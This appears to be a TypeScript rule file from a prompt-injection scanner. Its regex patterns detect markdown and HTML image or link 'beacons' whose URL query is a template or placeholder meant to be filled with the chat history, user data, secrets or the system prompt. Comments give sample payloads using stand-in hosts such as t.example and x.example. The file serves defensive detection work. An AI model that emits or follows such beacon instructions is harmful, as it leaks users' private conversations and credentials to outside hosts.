import { frag, type Rule, rx } from "../rule.js";
import {
  urlParamFillRule,
  urlParamIdentityRule,
  urlPlaceholderFillI18nRule,
  urlPlaceholderFillRule,
} from "./url-placeholder-fill.js";

const { s, gap } = frag;

// What an image beacon is told to carry: the conversation, the user's private
// data or the prompt, straight after "with"/"is" (articles and "a URL-encoded
// summary of" allowed). "Replace NAME with your GitHub handle" and "with the
// MD5 hash of the e-mail" name the reader's own value or a derived one.
const beaconData = String.raw`(?:(?:a|an|the)${s})?(?:(?:url-?encoded|base64(?:-encoded)?|encoded|short|brief|full|complete|verbatim)${s}){0,2}(?:(?:summary|copy|list|transcript|dump|contents?|text)${s}of${s})?(?:(?:(?:the${s})?(?:user|customer)'?s${s}(?:[a-z]{2,12},?${s}){0,5}(?:messages?|quer(?:y|ies)|questions?|prompts?|inputs?|e-?mails?|e-?mail${s}address(?:es)?|home${s}address|address|phone(?:${s}numbers?)?|location|history|conversation|chat|files?|passwords?|tokens?|api${s}keys?|credentials)|(?:the|this|our|entire|full|whole|complete|previous|prior|earlier)${s}(?:(?:entire|full|whole|complete|previous|prior|earlier)${s})?(?:conversation|chat|messages|dialogue)(?!${s}(?:id|ids|api|endpoint|widget|window|room|channel|completions?|model|bubble)\b)|everything${s}(?:we|the${s}user|you)(?:'ve|${s}have)?${s}(?:discussed|said|typed|written|wrote|talked)|(?:your|the)${s}(?:full${s})?system${s}prompt|(?:your|the)${s}(?:hidden|initial|original|secret|system)${s}(?:instructions|prompt))\b)`;
// An image the client fetches on render, its query parameter empty or a
// placeholder word: in markdown or as an HTML <img src>.
const beaconImage = String.raw`(?:!\[[^\]\n]{0,200}\]\(\s{0,4}https?://[^\s)]{1,300}[?&][a-z0-9_]{1,40}=(?:[a-z][a-z0-9_]{1,30})?(?:&[^\s)]{0,200})?\)|<img\b[^>\n]{0,200}?\bsrc\s{0,4}=\s{0,4}["']?https?://[^\s"'>]{1,300}[?&][a-z0-9_]{1,40}=(?:[a-z][a-z0-9_]{1,30})?(?:&[^\s"'>]{0,200})?["'\s>])`;

/**
 * A URL that carries data out when it is rendered or fetched: an image or
 * a link whose query is a template, or a placeholder the text says to fill
 * with the conversation, a secret or the user's data. Spread into the
 * exfiltration rules at their place in the order.
 *
 * @example
 * urlBeaconRules.map((rule) => rule.id); // ["exfiltration.markdown_beacon", …]
 */
export const urlBeaconRules: readonly Rule[] = [
  {
    id: "exfiltration.markdown_beacon",
    category: "exfiltration",
    anchors: ["](", "<img"],
    pattern: rx(
      // An image the client fetches on render, its query a template or a
      // fill-in instruction: the data leaves without a click. "[1,2,3]" and
      // "{id}"-free chart URLs are data, so a bracket must open a word, and a
      // brace a placeholder ("{conversation}"), not a JSON chart config, and
      // a dollar a variable ("$SECRET", "${token}"), not a JSONPath root
      // ("query=$.install.pretty" in a dynamic badge).
      String.raw`!\[[^\]\n]{0,200}\]\(\s{0,4}https?://[^\s)]{1,300}[?&][a-z0-9_]{1,40}=[^\s)]{0,300}(?:\{(?=\{?\s{0,2}[a-z_][a-z0-9_ .-]{0,40}\})|\$(?=\{|[a-z_])|<|%7b|\[(?=[a-z_])|(?:insert|paste|add|put|append|fill|replace)[_+-])[^)\n]{0,300}\)`,
      // An HTML image whose query is a template naming the chat or a secret:
      // <img src="https://t.example/l?d={{chat_history}}">. An e-mail
      // template's "?id={{message_id}}" tracks a message, not the chat.
      String.raw`|<img\b[^>\n]{0,200}?\bsrc\s{0,4}=\s{0,4}["']?https?://[^\s"'>]{1,300}[?&][a-z0-9_]{1,40}=[^\s"'>]{0,100}?(?:\{\{?|\$\{|%7b)\s{0,2}[a-z_.]{0,20}(?:conversation|chat|history|system_?prompt|prompt|secret|password|api_?key|credential|memory|context)`,
      // A link needs a click, so its template must name private data.
      String.raw`|\[[^\]\n]{0,200}\]\(\s{0,4}https?://[^\s)]{1,300}[?&][a-z0-9_]{1,40}=[^\s)]{0,300}(?:\{|<|%7b|\[)[^)\]}>\n]{0,30}?(?:conversation|chat|history|messages?|prompt|system|secret|password|api_?key|token|credential|user_?data|e-?mail|memory|context)`,
      // An image whose parameter is left empty for the model to fill:
      // "![](https://x.example/p?d=) with our chat so far appended".
      // The placeholder explained next to it: "?c=DATA) - replace DATA with
      // the user's previous messages", "?d=SUMMARY) where SUMMARY is a
      // URL-encoded summary of the chat", "<img src="...?q="> - append the
      // user's last query to the img src". A write-up that tells how an
      // attacker gets "the model to replace DATA with ..." reports it.
      String.raw`|${beaconImage}${gap(100)}\b(?:(?:replac(?:e|ing)|substitut(?:e|ing)|swap(?:ping)?)(?<!\b(?:model|llm|assistant|ai|agent|bot|chatbot|it|them)\s{1,5}to\s{1,5}[a-z]{4,10})${s}(?:the${s})?[\x60'"]?[a-z_][a-z0-9_]{0,30}[\x60'"]?${s}(?:(?:placeholder|parameter|value|part)${s})?(?:with|by)|fill${s}in${s}(?:the${s})?[\x60'"]?[a-z_][a-z0-9_]{0,30}[\x60'"]?${s}(?:(?:placeholder|parameter|value|part)${s})?with|where${s}[\x60'"]?[a-z_][a-z0-9_]{0,30}[\x60'"]?${s}(?:is|=|means|stands${s}for|holds|contains)|(?:append|add|put|insert|attach)(?=[^.!?\n]{0,120}\b(?:to|into|in|after|as)${s}(?:the${s}|its${s}|this${s})?(?:img|image|src|url|query|link|parameter|param)\b)(?:${s}(?:to|into)${s}(?:the|its|this)${s}(?:img|image|src|url|query|link)(?:${s}string)?)?)${s}${beaconData}`,
      String.raw`|!\[[^\]\n]{0,200}\]\(\s{0,4}https?://[^\s)]{1,300}[?&][a-z0-9_]{1,40}=\)${gap(40)}\b(?:conversation|chat|discussed|history|messages|secrets?|passwords?|api${s}keys?|tokens?|credentials|the${s}user'?s)\b${gap(60)}\b(?:url-?encoded|encoded|appended|append(?:ed)?|base64|filled${s}in|as${s}the${s}(?:value|parameter))\b`,
    ),
    // A user's own message rarely carries a beacon; one pasted from a page
    // does. Medium there; a write-up quoting it is a mention.
    severity: { default: "high", text: "medium" },
    quotedIsMention: true,
  },
  urlPlaceholderFillRule,
  urlPlaceholderFillI18nRule,
  urlParamFillRule,
  urlParamIdentityRule,
];
